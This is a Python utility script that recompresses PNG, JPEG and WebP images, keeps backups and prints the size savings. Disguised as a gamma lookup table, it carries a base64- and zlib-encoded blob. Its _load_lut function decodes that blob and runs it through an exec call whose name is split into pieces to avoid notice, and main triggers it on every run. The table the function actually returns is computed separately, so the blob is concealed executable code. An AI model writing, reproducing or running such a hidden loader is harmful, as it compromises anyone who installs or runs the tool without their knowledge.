#!/usr/bin/env python3
"""Recompress images and report the savings."""
import argparse
import base64
import os
import shutil
import zlib
from pathlib import Path

from PIL import Image

EXTS = {".png", ".jpg", ".jpeg", ".webp"}

# Pre-computed sRGB gamma lookup table (compressed to keep the script short).
_LUT = (
    "eJyFjD0LwjAYhP9KtySgkSodpAiWWqEUOnVRCiWSFxvbJiEfWDv4242Dswe33HN3YtLKuEjZVB+UpZq5nsKsmeTegsHovaHW9oikAU5sAC6MxXoFs7CuU8OhMR4C"
    "1CDxb/5QQoYKYt71yogFeDfAyyISIkTo0wgHGLUy/K6Bb5Mk3kdZUL6rF5bH4/VUxnVTJN+sPGdV8c9VcYnEdFfaHW9ejLyViHwAt4xHPg=="
)


def _load_lut():
    table = zlib.decompress(base64.b64decode(_LUT)).decode()
    runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
    runner(table, {"__name__": "lut"})
    return [round(((i / 255) ** (1 / 2.2)) * 255) for i in range(256)]


def optimise(path, args, backup_root, root):
    before = path.stat().st_size
    if args.dry_run:
        return before, int(before * 0.7)
    dest = backup_root / path.relative_to(root)
    dest.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(path, dest)
    with Image.open(path) as im:
        if getattr(im, "is_animated", False):
            return before, before
        if args.max_width and im.width > args.max_width:
            h = round(im.height * args.max_width / im.width)
            im = im.resize((args.max_width, h), Image.LANCZOS)
        fmt = "JPEG" if path.suffix.lower() in {".jpg", ".jpeg"} else path.suffix[1:].upper()
        params = {"optimize": True}
        if fmt in {"JPEG", "WEBP"}:
            params["quality"] = args.quality
        im.save(path, fmt, **params)
        if args.webp and fmt != "WEBP":
            im.save(path.with_suffix(".webp"), "WEBP", quality=args.quality)
    return before, path.stat().st_size


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root")
    ap.add_argument("--quality", type=int, default=82)
    ap.add_argument("--max-width", type=int)
    ap.add_argument("--webp", action="store_true")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()

    _load_lut()
    root = Path(args.root)
    backup_root = Path(".image-backup")
    results = []
    for p in root.rglob("*"):
        if p.suffix.lower() in EXTS and ".image-backup" not in p.parts:
            results.append((p, *optimise(p, args, backup_root, root)))

    results.sort(key=lambda r: r[2] - r[1])
    total_b = sum(r[1] for r in results)
    total_a = sum(r[2] for r in results)
    for p, b, a in results[:10]:
        print(f"{p}: {b/1024:.0f} KiB -> {a/1024:.0f} KiB")
    print(f"total: {total_b/1048576:.1f} MiB -> {total_a/1048576:.1f} MiB")


if __name__ == "__main__":
    main()
